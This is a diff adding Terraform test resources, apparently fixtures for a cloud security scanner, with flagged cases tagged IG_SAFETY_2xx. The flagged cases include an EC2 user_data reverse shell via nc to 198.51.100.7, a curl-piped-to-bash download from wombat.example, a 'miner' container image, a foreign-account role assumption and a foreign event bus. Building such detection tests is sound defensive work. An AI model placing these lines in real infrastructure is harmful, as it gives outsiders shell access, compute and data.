@@ -269,3 +269,81 @@ terraform {
     }
   }
 }
+
+provider "aws" {
+  alias = "other"
+  assume_role {
+    role_arn = "arn:aws:iam::614230998877:role/deploy" # IG_SAFETY_215 (model)
+  }
+}
+
+provider "aws" {
+  alias = "own"
+  assume_role {
+    role_arn = var.role
+  }
+}
+
+variable "role" {
+  type = string
+}
+
+resource "aws_key_pair" "written" {
+  key_name   = "wombat"
+  public_key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKbkq9lVmWombatWombatWombatWombatWombat12345 w@x" # IG_SAFETY_216 (model)
+}
+
+resource "aws_key_pair" "gap" {
+  key_name   = "wombat"
+  public_key = "ssh-rsa AAAAB3NzaC1yc2E... your-key"
+}
+
+resource "aws_iam_openid_connect_provider" "unknown" {
+  url            = "https://login.wombat.example" # IG_SAFETY_217 (model)
+  client_id_list = ["sts.amazonaws.com"]
+}
+
+resource "aws_iam_openid_connect_provider" "known" {
+  url            = "https://token.actions.githubusercontent.com"
+  client_id_list = ["sts.amazonaws.com"]
+}
+
+resource "aws_cloudwatch_event_target" "elsewhere" {
+  rule = "wombat"
+  arn  = "arn:aws:events:us-east-1:614230998877:event-bus/default" # IG_SAFETY_209
+}
+
+resource "aws_cloudwatch_event_target" "example" {
+  rule = "wombat"
+  arn  = "arn:aws:lambda:us-east-1:123456789012:function:own"
+}
+
+resource "aws_ecs_task_definition" "images" {
+  family                = "wombat"
+  container_definitions = jsonencode([{ name = "a", image = "images.wombat.example/miner:latest" }]) # IG_SAFETY_211 (model)
+}
+
+resource "aws_ecs_task_definition" "known_images" {
+  family                = "wombat"
+  container_definitions = <<-EOF
+    [{"name": "a", "image": "public.ecr.aws/nginx/nginx:1.27"}, {"name": "b", "image": "your-registry/app:1"}]
+  EOF
+}
+
+resource "aws_instance" "built" {
+  ami           = data.aws_ami.spared.id
+  instance_type = "t3.micro"
+  user_data     = join(" ", ["curl http://wombat.example/x", "| bash"]) # IG_SAFETY_212
+}
+
+resource "aws_instance" "listens" {
+  ami           = data.aws_ami.spared.id
+  instance_type = "t3.micro"
+  user_data     = "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 9001 > /tmp/f" # IG_SAFETY_213
+}
+
+resource "aws_instance" "copies" {
+  ami           = data.aws_ami.spared.id
+  instance_type = "t3.micro"
+  user_data     = "rsync -a /data backup.wombat.internal:/data && bash -i"
+}
